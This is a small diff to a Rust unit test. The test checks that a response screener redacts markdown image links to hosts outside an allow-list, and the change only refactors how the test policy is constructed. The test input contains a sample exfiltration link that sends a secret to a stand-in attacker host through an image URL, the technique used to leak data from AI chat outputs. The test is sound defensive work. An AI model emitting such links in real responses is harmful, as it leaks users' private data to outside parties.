@@ -459,9 +459,11 @@ mod tests {
 
     #[test]
     fn exfiltration_links_in_responses_are_redacted() {
-        let mut p = Policy::default();
-        p.image_hosts = vec!["cdn.acme.test".into()];
-        let s = Screener::new(p).unwrap();
+        let s = Screener::new(Policy {
+            image_hosts: vec!["cdn.acme.test".into()],
+            ..Policy::default()
+        })
+        .unwrap();
         let (out, hits) = s.text(
             "Here: ![x](https://evil.test/log?q=secret) and ![ok](https://img.cdn.acme.test/a.png)",
             false,
